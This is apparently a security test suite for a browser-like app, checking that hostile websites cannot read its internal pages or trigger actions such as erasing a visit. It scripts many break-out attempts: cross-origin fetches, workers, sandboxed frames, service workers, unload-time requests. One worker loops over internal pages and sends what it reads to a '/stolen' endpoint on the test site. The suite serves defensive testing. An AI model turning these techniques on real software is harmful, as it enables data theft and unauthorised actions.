// Break-out attempts on our own pages: no website reads them, presses them or erases a visit, by whatever means it asks.
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { wordElement, wordHeader } from '../../../contract/page-word.ts';
import { eventually, type Page, pageAt } from '../../support/station/devtools.ts';
import { type Besieged, start, startBesieged } from './besieged.ts';
import { html, places, script } from './hostile-site.ts';

let besieged: Besieged;
let states: number;
beforeAll(async () => {
  besieged = await startBesieged();
});
afterAll(() => besieged?.stop());
beforeEach(async () => {
  await besieged.again();
  states = besieged.station.told.length;
});

/** The visit goes on: the agent has heard nothing, and the same session is there. */
async function stillThere(): Promise<void> {
  await besieged.settle();
  expect(besieged.station.told.length).toBe(states);
  expect((await besieged.station.sessions()).map(({ id }) => id)).toContain(besieged.visit.session.id);
}

const deeds = ['lethe://tab/do/erase', 'lethe://tab/do/reload'];
const views = ['/view.json', '/knows.json', '/knows.json?names=1'];
const texts = [...views.map((path) => `lethe://tab${path}`), 'lethe://tab/home', 'lethe://bar/index.html'];

/** Every way of asking: plain, without rules of origin, and with the header that our own pages send. */
const asking = (address: string, method: string): string[] =>
  [
    "{ method: 'M' }",
    "{ method: 'M', mode: 'no-cors' }",
    "{ method: 'M', mode: 'no-cors', keepalive: true }",
    `{ method: 'M', headers: { '${wordHeader}': 'x', 'lethe-pass': 'x' } }`,
  ].map((how) => `fetch('${address}', ${how.replace('M', method)})`);

/** What came of a request, as text: the status and what was read, or the name of the error. */
const outcome = (request: string) =>
  `${request}.then(async (answer) => answer.status + ' ' + (await answer.text()), (error) => error.name)`;

describe('P7 A page cannot leave its place.', () => {
  describe('A page of ours', () => {
    it('reads its own view, and the deed that it asks for is done, by the word in its document', async () => {
      await besieged.again('lethe://tab/home');
      const headers = `headers: { '${wordHeader}': document.querySelector('meta[name=${wordElement}]').content }`;
      expect(await besieged.run<string>(`return ${outcome(`fetch('/view.json', { ${headers} })`)}`)).toMatch(
        /^200 .*Harbour Street/,
      );
      expect(
        await besieged.run<string>(`return ${outcome(`fetch('/do/reload', { method: 'POST', ${headers} })`)}`),
      ).toBe('204 ');
      for (const [path, method] of [...views.map((path) => [path, 'GET']), ['/do/erase', 'POST']])
        for (const wrong of ['{}', `{ '${wordHeader}': 'x' }`])
          expect(
            await besieged.run<string>(
              `return ${outcome(`fetch('${path}', { method: '${method}', headers: ${wrong} })`)}`,
            ),
          ).toMatch(/^404/);
      await stillThere();
    });

    it('has a word that no script is answered with, not even its own', async () => {
      await besieged.again('lethe://tab/home');
      const word = await besieged.run<string>(`return document.querySelector('meta[name=${wordElement}]').content`);
      expect(word).toMatch(/^[0-9a-f-]{36}$/);
      const document = await besieged.run<string>(`return ${outcome("fetch('/home')")}`);
      expect(document).toMatch(/^200 .*<title>/s);
      expect(document).not.toContain(word);
    });
  });

  describe('A website', () => {
    it.each(texts)('reads nothing of %s', async (address) => {
      for (const request of asking(address, 'GET'))
        expect(await besieged.run(`return ${outcome(request)}`)).toBe('TypeError');
    });

    it.each(deeds)('can not ask for %s', async (address) => {
      for (const request of asking(address, 'POST'))
        expect(await besieged.run(`return ${outcome(request)}`)).toBe('TypeError');
      await besieged.run(`navigator.sendBeacon('${address}')`);
      await stillThere();
    });

    it('can not by a form, a picture, a script, a style, a frame or an import', async () => {
      const [erase] = deeds;
      await besieged.run(
        `document.body.innerHTML = '<img src="${erase}"><script src="${erase}"></scr' + 'ipt><link rel="stylesheet" href="${erase}"><iframe name="f" src="${erase}"></iframe><form method="post" target="f" action="${erase}"></form>'; document.forms[0].submit(); await import('${erase}')`,
      );
      await stillThere();
      await besieged.again();
      expect(
        await besieged.lead(
          `document.body.innerHTML = '<form method="post" action="${erase}"></form>'; document.forms[0].submit()`,
        ),
      ).toMatch(/^(lethe:\/\/tab\/kind|https:\/\/licensed)/);
      await stillThere();
    });

    it.each([
      [
        'a worker',
        (code: string) =>
          `const worker = new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`${code}.then((value) => postMessage(value))`)}]))); return new Promise((done) => { worker.onmessage = ({ data }) => done(data) })`,
      ],
      [
        'a shared worker',
        (code: string) =>
          `const worker = new SharedWorker(URL.createObjectURL(new Blob([${JSON.stringify(`onconnect = ({ ports: [port] }) => ${code}.then((value) => port.postMessage(value))`)}]))); return new Promise((done) => { worker.port.onmessage = ({ data }) => done(data) })`,
      ],
      [
        'a frame without an origin',
        (code: string) =>
          `document.body.innerHTML = ${JSON.stringify(`<iframe sandbox="allow-scripts" srcdoc="&lt;script>${code.replaceAll('"', '&quot;')}.then((value) => parent.postMessage(value, '*'))&lt;/script>"></iframe>`)}; return new Promise((done) => { onmessage = ({ data }) => done(data) })`,
      ],
    ])('reads and presses nothing from %s', async (_name, within) => {
      for (const address of [...texts, ...deeds])
        for (const request of asking(address, deeds.includes(address) ? 'POST' : 'GET'))
          expect(await besieged.run<string>(within(outcome(request))), request).toMatch(/^(TypeError|404 )$/);
      await stillThere();
    });

    it('reads and presses nothing from its own service', async () => {
      besieged.site.put(
        '/asking.js',
        script(
          `onmessage = async ({ data, source }) => source.postMessage(await ${outcome('fetch(...data)')}); onactivate = (event) => event.waitUntil(clients.claim())`,
        ),
      );
      const ask = (address: string, method: string) =>
        `await navigator.serviceWorker.register('/asking.js'); const { active } = await navigator.serviceWorker.ready; return new Promise((done) => { navigator.serviceWorker.onmessage = ({ data }) => done(data); active.postMessage(['${address}', { method: '${method}', mode: 'no-cors' }]) })`;
      for (const address of texts) expect(await besieged.run(ask(address, 'GET'))).toBe('TypeError');
      for (const address of deeds) expect(await besieged.run(ask(address, 'POST'))).toBe('TypeError');
      await stillThere();
    });

    // The gate takes these requests for our page's own where they come late enough: only some turns do.
    it.each([1, 2, 3, 4, 5])('can not in its last moment, while our home page takes its place (%i)', async () => {
      const last = asking('lethe://tab/do/erase', 'POST')
        .map((request) => `try { ${request}.catch(() => 0) } catch {}`)
        .join('; ');
      expect(
        await besieged.lead(
          `for (const last of ['pagehide', 'unload', 'visibilitychange', 'beforeunload']) addEventListener(last, () => { ${last} }); location.assign('lethe://tab/home')`,
        ),
      ).toBe('lethe://tab/home');
      await new Promise((resolve) => setTimeout(resolve, 500));
      await stillThere();
    });

    it('reads nothing of the visit by a worker that it leaves behind', async () => {
      const stolen: string[] = [];
      besieged.site.put('/stolen', ({ body }) => {
        stolen.push(body.toString('utf8'));
        return { status: 204, headers: {}, body: '' };
      });
      const steal = `for (;;) for (const address of ${JSON.stringify(texts)}) { try { const answer = await fetch(address); await fetch('${start}stolen', { method: 'POST', mode: 'no-cors', body: answer.status + ' ' + await answer.text() }) } catch {} }`;
      const lastsOn =
        "addEventListener('unload', () => { const until = Date.now() + 450; while (Date.now() < until); })";
      for (const _turn of [1, 2, 3, 4]) {
        await besieged.again();
        expect(
          await besieged.lead(
            `new Worker(URL.createObjectURL(new Blob([${JSON.stringify(`(async () => { ${steal} })()`)}]))); ${lastsOn}; setTimeout(() => location.assign('lethe://tab/home'), 200)`,
          ),
        ).toBe('lethe://tab/home');
        await new Promise((resolve) => setTimeout(resolve, 500));
      }
      // The gate can't keep it from asking: it is answered with the empty page that anybody may see, or with nothing.
      expect(stolen.length).toBeGreaterThan(0);
      for (const text of stolen) {
        expect(text).toMatch(/^(404 $|200 <!doctype html>)/);
        expect(text).not.toContain(wordElement);
      }
      await stillThere();
    });

    it('finds no bridge, no Node and no Electron in its window, frames and workers', async () => {
      const kinds =
        '[typeof lethe, typeof require, typeof process, typeof module, typeof Buffer, typeof global].join()';
      const none = 'undefined,undefined,undefined,undefined,undefined,undefined';
      expect(await besieged.run(`return ${kinds}`)).toBe(none);
      besieged.site.put('/kinds', html(`<script>parent.postMessage(${kinds}, '*')</script>`));
      expect(
        await besieged.run(
          `document.body.innerHTML = '<iframe src="/kinds"></iframe>'; return new Promise((done) => { onmessage = ({ data }) => done(data) })`,
        ),
      ).toBe(none);
      expect(
        await besieged.run(
          `const worker = new Worker(URL.createObjectURL(new Blob(["postMessage(${kinds})"]))); return new Promise((done) => { worker.onmessage = ({ data }) => done(data) })`,
        ),
      ).toBe(none);
    });
  });

  describe('The bar', () => {
    const pressed = async (bar: Page) => {
      await bar.evaluate("lethe.press({ press: 'hang', what: 'more' })");
      await eventually(() => bar.evaluate<boolean>('innerHeight > 400'), 5000, 'the bar to grow over the page');
      await bar.evaluate("lethe.press({ press: 'hang', what: 'nothing' })");
    };

    it('obeys its own page', () => pressed(besieged.visit.bar));

    it('passes over presses that its contract does not list', async () => {
      const odd = [
        "{ press: 'quit' }",
        "{ press: 'end-now', more: 1 }",
        "{ press: 'close-tab', id: '1' }",
        "{ press: 'find', words: 'x'.repeat(1e6), forward: true, next: true }",
        'null',
        "'end-now'",
        '[]',
        'undefined',
        "{ __proto__: { press: 'end-now' } }",
      ];
      for (const press of odd) await besieged.visit.bar.evaluate(`lethe.press(${press})`);
      await stillThere();
    });

    it('has a bridge of two functions that hand out values only', async () => {
      expect(await besieged.visit.bar.evaluate('Object.keys(lethe).sort().join()')).toBe('onView,press');
      const kinds = '[typeof require, typeof process, typeof ipcRenderer, typeof electron].join()';
      expect(await besieged.visit.bar.evaluate(kinds)).toBe('undefined,undefined,undefined,undefined');
    });

    it('does not load a website, a frame or a window', async () => {
      const { bar, session } = besieged.visit;
      await bar.evaluate(`location.href = 'https://${places.friend}/'`).catch(() => undefined);
      await bar.evaluate(
        `document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://${places.friend}/' }))`,
      );
      expect(await bar.evaluate(`String(window.open('https://${places.friend}/'))`)).toBe('null');
      expect(await bar.evaluate(`fetch('https://${places.friend}/').then(() => 'read', (error) => error.name)`)).toBe(
        'TypeError',
      );
      await besieged.settle();
      expect(besieged.site.asked(places.friend)).toEqual([]);
      const again = await pageAt(await session.debuggingPort(), ({ url }) => url.startsWith('lethe://bar'));
      expect(await again.evaluate('location.href')).toBe('lethe://bar/index.html');
      again.close();
    });

    it('listens to no frame of its own', async () => {
      await besieged.visit.bar.evaluate(
        "document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.lethe</' + 'script>' }))",
      );
      const kind =
        "(() => { const frame = document.body.appendChild(document.createElement('iframe')); return typeof frame.contentWindow.lethe })()";
      expect(await besieged.visit.bar.evaluate(kind)).toBe('undefined');
    });
  });
});
